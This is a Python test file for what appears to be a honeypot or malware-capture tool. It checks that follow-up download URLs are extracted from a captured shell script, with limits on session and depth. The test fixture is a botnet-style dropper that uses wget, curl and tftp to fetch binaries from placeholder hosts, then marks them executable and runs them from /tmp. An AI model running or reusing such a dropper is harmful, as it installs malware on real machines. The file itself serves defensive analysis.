# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import msgspec

from mead.deck.scripts import MAX_DEPTH, offers_of
from mead.egress.result import Request

REQUEST = Request(
    url="http://h.example/bins.sh", offer="q-1", sensor="s", session="q", src="198.51.100.7", depth=1
)
SCRIPT = b"""#!/bin/sh
for a in arm7 mips x86; do
  cd /tmp; wget http://h.example/bot.$a; chmod 777 bot.$a; ./bot.$a
done
curl -O http://h.example/bot.arm7
tftp -g -r bot.ppc 203.0.113.9
"""


def test_every_place_of_a_script_is_an_offer_of_the_same_session_once() -> None:
    offers = list(offers_of(SCRIPT, REQUEST))
    assert [offer.url for offer in offers] == [
        "http://h.example/bot.arm7", "http://h.example/bot.mips", "http://h.example/bot.x86",
        "tftp://203.0.113.9/bot.ppc",
    ]  # fmt: skip
    assert [offer.offer for offer in offers] == ["q-1.1", "q-1.2", "q-1.3", "q-1.4"]
    assert {(offer.session, offer.src, offer.depth) for offer in offers} == {("q", "198.51.100.7", 2)}
    assert (offers[0].tool, offers[3].tool) == ("wget", "tftp")
    assert offers[0].user_agent


def test_what_is_no_script_or_too_deep_offers_nothing() -> None:
    assert not list(offers_of(b"\x7fELF\0" + SCRIPT, REQUEST))
    assert not list(offers_of(b"", REQUEST))
    deep = msgspec.structs.replace(REQUEST, depth=MAX_DEPTH)
    assert not list(offers_of(SCRIPT, deep))
